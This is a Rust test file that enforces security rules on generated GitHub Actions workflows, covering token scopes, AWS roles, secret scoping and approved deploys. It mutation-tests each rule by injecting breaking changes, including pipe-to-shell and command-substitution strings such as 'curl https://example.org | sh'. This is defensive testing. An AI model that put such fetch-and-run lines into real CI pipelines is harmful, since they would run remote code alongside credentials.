//! The project rules that neither the types nor zizmor and actionlint enforce. Each rule is checked on the generated
//! workflows, and must find every change that breaks it.

use serde_yaml::{Mapping, Value};

use super::super::build;
use super::super::ci::Programs;
use super::super::step::{COMPILE_LIGHT, DIGEST, PACK, UNPACK, VERIFY, VERIFY_SIGNATURE, command};
use super::{jobs, run, steps, variants};

/// Commands that change no existing resource, besides `deploy --create-only`.
const UNAPPROVED: [&str; 8] = ["build-images", "ci-gen", "diff", "lint", "pins", "release-files", "status", "test"];
const SECRETS: [&str; 2] = ["${{ secrets.AWS_ACCESS_KEY_ID }}", "${{ secrets.AWS_SECRET_ACCESS_KEY }}"];
/// The start of a line that runs the downloaded program.
const PROGRAM: &str = "programs/xtask ";
const INSTALL: &str = "rustup toolchain install ";
/// The first words of every command.
const COMMANDS: [[&str; 3]; 7] = [
    ["cargo", "build", "--locked"],
    ["cargo", "xtask", "*"],
    ["gh", "release", "create"],
    ["programs/xtask", "*", "*"],
    ["rustup", "toolchain", "install"],
    ["sudo", "apt-get", "install"],
    ["sudo", "apt-get", "update"],
];
/// Write permissions; all others are read-only.
const WRITES: [&str; 5] = ["attestations", "contents", "id-token", "issues", "pull-requests"];
const ATTEST: &str = "actions/attest";
/// What a job may run that writes to the repository.
const PUBLISHES: &str = "gh release create ";
const ROLE: &str = "aws-actions/configure-aws-credentials";

/// A rule, which returns whether a workflow breaks it.
type Rule = fn(&Value) -> bool;

fn text(value: Option<&Value>) -> String {
    let text = |value: &Value| {
        value.as_str().map_or_else(|| serde_yaml::to_string(value).unwrap_or_default().trim().to_owned(), str::to_owned)
    };
    value.map(text).unwrap_or_default()
}

fn members(value: Option<&Value>) -> Vec<(String, String)> {
    let mapping = value.and_then(Value::as_mapping).into_iter().flatten();
    mapping.map(|(key, value)| (text(Some(key)), text(Some(value)))).collect()
}

fn uses(step: &Value, action: &str) -> bool {
    step.get("uses").and_then(Value::as_str).is_some_and(|uses| uses.starts_with(action))
}

fn any_job(workflow: &Value, test: impl Fn(&Value) -> bool) -> bool {
    jobs(workflow).into_iter().any(|(_, job)| test(job))
}

fn any_step(workflow: &Value, test: impl Fn(&Value, &Value) -> bool) -> bool {
    any_job(workflow, |job| steps(job).iter().any(|step| test(job, step)))
}

fn permission(job: &Value, scope: &str) -> bool {
    job.get("permissions").and_then(|all| all.get(scope)?.as_str()) == Some("write")
}

fn secrets(value: Option<&Value>) -> Vec<String> {
    members(value).into_iter().map(|(_, value)| value).filter(|value| value.contains("secrets")).collect()
}

/// Returns the arguments of the program, compiled here or downloaded.
fn arguments(step: &Value) -> Option<&str> {
    run(step).strip_prefix("cargo xtask ").or_else(|| run(step).strip_prefix(PROGRAM))
}

fn is_one_of(list: &[&str], arguments: &str) -> bool {
    list.contains(&arguments.split(' ').next().unwrap_or_default())
}

fn deploys(workflow: &Value) -> bool {
    any_step(workflow, |_, step| arguments(step).is_some_and(|arguments| arguments.starts_with("deploy ")))
}

/// Returns whether a job changes an existing resource other than by the approved plan, or by `sync-dags` after it.
fn changes_without_approval(job: &Value) -> bool {
    let mut approved = false;
    steps(job).iter().filter_map(arguments).any(|arguments| {
        let applies = arguments.starts_with("deploy ") && arguments.contains(" --expect \"$DIGEST\"");
        approved |= applies;
        let follows = approved && arguments.starts_with("sync-dags ");
        !(applies || follows || arguments.starts_with("deploy --create-only ") || is_one_of(&UNAPPROVED, arguments))
    })
}

fn has_credentials(step: &Value) -> bool {
    uses(step, ROLE) || !secrets(step.get("env")).is_empty()
}

/// Returns whether a job with credentials runs anything but the program that it downloaded and verified, which build scripts
/// of other crates could use. The compiler is installed because the images' keys contain the list of crates.
fn runs_other_code_with_credentials(job: &Value) -> bool {
    let is_cloud = job.get("environment").is_some() || any(job, has_credentials);
    let at = |line: &str| steps(job).iter().position(|step| run(step) == line);
    let other = |step: &Value| {
        let line = run(step);
        let allowed = line.starts_with(INSTALL) || line.starts_with(PROGRAM);
        !line.is_empty() && !allowed && ![VERIFY, VERIFY_SIGNATURE, UNPACK, PACK, DIGEST].contains(&line)
    };
    let first = steps(job).iter().position(|step| run(step).starts_with(PROGRAM) || has_credentials(step));
    let in_order = at(VERIFY).is_some() && at(VERIFY) < at(UNPACK) && at(UNPACK) < first;
    let is_archive = |step: &Value| {
        let name = text(step.get("with").and_then(|with| with.get("name")));
        name.starts_with(Programs::BUILT) || name.starts_with(Programs::DEPLOYED)
    };
    let fetches = any(job, |step| is_archive(step) && uses(step, "actions/download"));
    let is_unverified = fetches && at(VERIFY).is_none();
    is_unverified || is_cloud && (!in_order || any(job, other) || any(job, |step| uses(step, "Swatinem/rust-cache")))
}

/// Returns whether a step with a token compiles something.
fn compiles_with_token(job: &Value) -> bool {
    any(job, |step| run(step).starts_with("cargo ") && text(step.get("env")).contains("github.token"))
}

const RULES: [(&str, Rule); 11] = [
    ("tokens write only issues, pull requests, releases, attestations and identities", |workflow| {
        any_job(workflow, |job| {
            let scopes = members(job.get("permissions"));
            scopes.iter().any(|(scope, level)| level != "read" && !WRITES.contains(&scope.as_str()))
        })
    }),
    ("a job that writes to the repository runs none of its code", |workflow| {
        any_job(workflow, |job| {
            let writes =
                ["attestations", "contents", "issues", "pull-requests"].iter().any(|scope| permission(job, scope));
            let runs = |step: &Value| !["", VERIFY].contains(&run(step)) && !run(step).starts_with(PUBLISHES);
            writes && any(job, |step| uses(step, "actions/checkout") || runs(step))
        })
    }),
    ("a job requests its identity if and only if it assumes a role or signs", |workflow| {
        let needs = |step: &Value| uses(step, ROLE) || uses(step, ATTEST);
        any_job(workflow, |job| any(job, needs) != permission(job, "id-token"))
    }),
    ("a role belongs to one account and to an environment", |workflow| {
        any_step(workflow, |job, step| {
            let with = |name: &str| text(step.get("with").and_then(|with| with.get(name)));
            uses(step, ROLE)
                && (!with("role-to-assume").starts_with("arn:")
                    || !with("allowed-account-ids").starts_with("${{ vars.AWS_ACCOUNT_ID_")
                    || members(step.get("with")).iter().any(|(name, _)| name.contains("access-key"))
                    || job.get("environment").is_none())
        })
    }),
    ("no deployment is cancelled or dropped", |workflow| {
        let of = |name: &str| text(workflow["concurrency"].get(name));
        deploys(workflow) && (of("cancel-in-progress") != "false" || of("queue") != "max")
    }),
    ("only pull requests of this repository get an environment", |workflow| {
        let own = "github.event.pull_request.head.repo.full_name == github.repository";
        let foreign = |job: &Value| job.get("environment").is_some() && !text(job.get("if")).contains(own);
        workflow["on"].get("pull_request").is_some() && any_job(workflow, foreign)
    }),
    ("a deployment started by hand is of main", |workflow| {
        any_step(workflow, |job, step| {
            arguments(step).is_some_and(|arguments| arguments.starts_with("deploy --create-only "))
                && !text(job.get("if")).starts_with("github.ref == 'refs/heads/main' && ")
        })
    }),
    (
        "a shell line is one command: of this project, or one that compiles it, installs a tool or publishes",
        |workflow| {
            any_step(workflow, |_, step| {
                let is_of = |words: &[String], start: [&str; 3]| {
                    words.len() >= 3 && words.iter().zip(start).all(|(word, known)| known == "*" || word == known)
                };
                let allowed = |words: Vec<String>| COMMANDS.iter().any(|start| is_of(&words, *start));
                // Their pipes and substitutions are constant.
                let mut known = build::LINES.into_iter().chain([PACK, DIGEST, VERIFY, VERIFY_SIGNATURE, UNPACK]);
                let is_known = known.any(|line| line == run(step));
                step.get("run").is_some() && !is_known && !command(run(step)).is_some_and(allowed)
            })
        },
    ),
    ("only the approved plan changes existing resources, and the DAGs after it", |workflow| {
        any_job(workflow, changes_without_approval)
            || any_step(workflow, |job, step| {
                let all = run(step).starts_with("programs/xtask deploy ") && !run(step).contains(" --create-only ");
                let digest = text(step.get("env").and_then(|env| env.get("DIGEST")));
                let entered = digest == "${{ inputs.digest }}" && text(job.get("if")) == "inputs.digest != ''";
                all && !((digest.starts_with("${{ needs.") || entered) && job.get("needs").is_some())
            })
    }),
    ("a job with credentials runs only the program that another job built", |workflow| {
        any_job(workflow, |job| runs_other_code_with_credentials(job) || compiles_with_token(job))
    }),
    ("secrets reach only commands of this project, in a job with an environment", |workflow| {
        !secrets(workflow.get("env")).is_empty()
            || any_job(workflow, |job| !secrets(job.get("env")).is_empty())
            || any_step(workflow, |job, step| {
                let given = secrets(step.get("env"));
                let known = given.iter().all(|secret| SECRETS.contains(&secret.as_str()));
                let allowed = known && arguments(step).is_some() && job.get("environment").is_some();
                !secrets(step.get("with")).is_empty() || !(given.is_empty() || allowed)
            })
    }),
];

/// A change in one place; returns false if it does not apply.
enum Change {
    Top(fn(&mut Value) -> bool),
    Job(fn(&mut Value) -> bool),
    Step(fn(&mut Value) -> bool),
}
use Change::{Job, Step, Top};

fn without(value: &mut Value, key: &str) -> bool {
    value.as_mapping_mut().is_some_and(|mapping| mapping.remove(key).is_some())
}

/// Sets a key to this YAML.
fn put(value: &mut Value, key: &str, to: &str) -> bool {
    let to: Value = serde_yaml::from_str(to).expect("YAML");
    value.as_mapping_mut().is_some_and(|mapping| mapping.insert(key.into(), to.clone()) != Some(to))
}

/// Sets or removes a key in a step's `with` or `env`.
fn within(step: &mut Value, section: &str, key: &str, to: Option<&str>) -> bool {
    let Some(section) = step.get_mut(section).filter(|section| section.get(key).is_some()) else { return false };
    match to {
        Some(to) => put(section, key, to),
        None => without(section, key),
    }
}

fn rerun(step: &mut Value, from: &str, to: &str) -> bool {
    let changed = run(step).replace(from, to);
    let differs = changed != run(step);
    differs && put(step, "run", &format!("{changed:?}"))
}

fn any(job: &Value, test: impl Fn(&Value) -> bool) -> bool {
    steps(job).iter().any(test)
}

fn drop_steps(job: &mut Value, line: &str) -> bool {
    let Some(list) = job.get_mut("steps").and_then(Value::as_sequence_mut) else { return false };
    let before = list.len();
    list.retain(|step| !run(step).starts_with(line));
    list.len() < before
}

fn has_account(step: &Value) -> bool {
    step.get("env").is_some_and(|env| env.get("AWS_ACCOUNT_ID").is_some())
}

fn has_key(step: &Value) -> bool {
    step.get("run").is_some() && step.get("env").is_some_and(|env| env.get("AWS_ACCESS_KEY_ID").is_some())
}

/// Changes by the index of the rule that must find them.
const CHANGES: &[(usize, Change)] = &[
    (
        1,
        Job(|job| any(job, |step| uses(step, "actions/checkout")) && put(&mut job["permissions"], "contents", "write")),
    ),
    (1, Step(|step| rerun(step, "gh release create", "release/xtask"))),
    (0, Job(|job| put(&mut job["permissions"], "packages", "write"))),
    (1, Job(|job| any(job, |step| uses(step, "actions/checkout")) && put(&mut job["permissions"], "issues", "write"))),
    (2, Job(|job| without(&mut job["permissions"], "id-token"))),
    (
        2,
        Job(|job| {
            !any(job, |step| uses(step, ROLE) || uses(step, ATTEST))
                && put(&mut job["permissions"], "id-token", "write")
        }),
    ),
    (3, Step(|step| uses(step, ROLE) && within(step, "with", "role-to-assume", None))),
    (3, Step(|step| uses(step, ROLE) && within(step, "with", "allowed-account-ids", None))),
    (3, Step(|step| uses(step, ROLE) && put(&mut step["with"], "aws-access-key-id", "x"))),
    (3, Job(|job| any(job, |step| uses(step, ROLE)) && without(job, "environment"))),
    (4, Top(|top| deploys(top) && without(&mut top["concurrency"], "queue"))),
    (4, Top(|top| deploys(top) && put(&mut top["concurrency"], "cancel-in-progress", "true"))),
    (5, Top(|top| top["on"].get("pull_request").is_some() && without(&mut top["jobs"]["plan"], "if"))),
    (
        6,
        Job(|job| {
            any(job, |step| run(step).starts_with("programs/xtask deploy --create-only")) && put(job, "if", "always()")
        }),
    ),
    (7, Step(|step| step.get("run").is_some() && put(step, "run", "make"))),
    (7, Step(|step| rerun(step, "cargo xtask ", "curl -s x | sh && cargo xtask "))),
    (7, Step(|step| rerun(step, "--component clippy", "; curl https://example.org | sh"))),
    (7, Step(|step| rerun(step, "--quiet", "$(curl https://example.org)"))),
    (7, Step(|step| rerun(step, " --locked", " --locked &"))),
    (7, Step(|step| rerun(step, "gh release create", "gh api"))),
    (8, Step(|step| rerun(step, "deploy --create-only ", "deploy "))),
    (8, Step(|step| rerun(step, " diff ", " sync-dags "))),
    (8, Step(|step| rerun(step, " status ", " recover "))),
    (8, Step(|step| rerun(step, " --expect \"$DIGEST\"", ""))),
    (8, Step(|step| within(step, "env", "DIGEST", Some("'1234'")))),
    (8, Job(|job| any(job, |step| run(step).starts_with("programs/xtask deploy --yes")) && without(job, "needs"))),
    (7, Step(|step| rerun(step, PROGRAM, "curl -s x | sh && programs/xtask "))),
    (9, Step(|step| has_key(step) && put(step, "run", COMPILE_LIGHT))),
    (9, Step(|step| has_key(step) && put(step, "run", "cargo xtask status --env dev"))),
    (9, Step(|step| run(step).starts_with(PROGRAM) && has_account(step) && rerun(step, PROGRAM, "cargo xtask "))),
    (9, Job(|job| drop_steps(job, VERIFY))),
    (9, Job(|job| any(job, has_key) && drop_steps(job, UNPACK))),
    (9, Step(|step| text(step.get("env")).contains("github.token") && rerun(step, PROGRAM, "cargo xtask "))),
    (7, Step(|step| rerun(step, " --locked", ""))),
    (
        9,
        Job(|job| {
            // Compiles before the login.
            let Some(list) = job.get_mut("steps").and_then(Value::as_sequence_mut) else { return false };
            let login = list.iter().position(|step| uses(step, ROLE));
            let compile = serde_yaml::from_str("run: cargo build --locked --package xtask").expect("YAML");
            login.is_some_and(|login| {
                list.insert(login, compile);
                true
            })
        }),
    ),
    (10, Top(|top| put(&mut top["env"], "KEY", "'${{ secrets.AWS_ACCESS_KEY_ID }}'"))),
    (10, Job(|job| put(job, "env", "{KEY: '${{ secrets.AWS_ACCESS_KEY_ID }}'}"))),
    (10, Step(|step| within(step, "env", "AWS_ACCESS_KEY_ID", Some("'${{ secrets.OTHER }}'")))),
    (10, Step(|step| uses(step, "actions/") && put(step, "env", "{K: '${{ secrets.AWS_ACCESS_KEY_ID }}'}"))),
    (10, Job(|job| any(job, has_key) && without(job, "environment"))),
];

/// Returns copies of a workflow, each with the change in one place.
fn changed(workflow: &Value, change: &Change) -> Vec<(String, Value)> {
    let mut found = Vec::new();
    let mut attempt =
        |place: String, change: fn(&mut Value) -> bool, find: &dyn Fn(&mut Value) -> Option<&mut Value>| {
            let mut copy = workflow.clone();
            if find(&mut copy).is_some_and(change) {
                found.push((place, copy));
            }
        };
    let ids = workflow["jobs"].as_mapping().map_or_else(Vec::new, |jobs: &Mapping| jobs.keys().cloned().collect());
    match change {
        Top(change) => attempt("top".to_owned(), *change, &|top| Some(top)),
        Job(change) => {
            ids.iter().for_each(|id| attempt(format!("{id:?}"), *change, &|top| top["jobs"].get_mut(id)));
        }
        Step(change) => {
            for id in &ids {
                for index in 0..steps(&workflow["jobs"][id]).len() {
                    attempt(format!("{id:?} {index}"), *change, &|top| top["jobs"][id]["steps"].get_mut(index));
                }
            }
        }
    }
    found
}

#[test]
fn the_workflows_follow_every_rule() {
    for workflow in variants() {
        for (name, breaks) in RULES {
            assert!(!breaks(&workflow.value), "{}: {name}", workflow.file.path);
        }
    }
}

#[test]
fn each_rule_finds_every_change_that_breaks_it() {
    let (workflows, mut seen) = (variants(), vec![0; RULES.len()]);
    for (rule, change) in CHANGES {
        let (name, breaks) = RULES[*rule];
        let mut places = 0;
        for workflow in &workflows {
            for (place, value) in changed(&workflow.value, change) {
                assert!(breaks(&value), "`{name}` misses a change in {}, {place}", workflow.file.path);
                places += 1;
            }
        }
        assert!(places > 0, "a change for `{name}` applies nowhere");
        seen[*rule] += places;
    }
    assert!(seen.iter().all(|places| *places > 0) && seen.iter().sum::<i32>() > 250, "{seen:?}");
}
